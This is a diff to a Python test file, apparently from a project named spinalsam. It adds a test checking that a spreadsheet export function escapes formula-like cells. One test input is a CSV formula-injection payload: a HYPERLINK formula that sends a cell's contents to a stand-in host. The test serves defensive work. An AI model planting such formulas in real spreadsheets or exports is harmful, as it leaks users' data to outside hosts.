@@ -8,7 +8,7 @@ import pytest
 from hostile_files import MARKUP
 
 from spinalsam.labels import LabelSet
-from spinalsam.plaintext import inert_markdown, plain_name
+from spinalsam.plaintext import inert_markdown, plain_name, spreadsheet_row
 
 ACTIVE = re.compile(r"[<>\[\]`\\]")
 NAMES = [
@@ -50,3 +50,15 @@ def test_stored_markdown_keeps_its_formatting_but_opens_nothing() -> None:
     assert not ACTIVE.search(inert.replace("<sub>", "").replace("</sub>", ""))
     assert "&lt;img src=x" in inert and "!&#91;t&#93;(http" in inert
     assert inert_markdown(inert) == inert  # saved and reopened again: unchanged
+
+
+def test_spreadsheet_cells_never_run_as_formulas() -> None:
+    row = ['=HYPERLINK("http://host/?"&A1,"open")', " @SUM(A1)", "-2+3", "-512.5000", 7, "L1"]
+    assert spreadsheet_row(row) == [
+        '\'=HYPERLINK("http://host/?"&A1,"open")',
+        "' @SUM(A1)",
+        "'-2+3",
+        "-512.5000",  # a number stays a number
+        7,
+        "L1",
+    ]
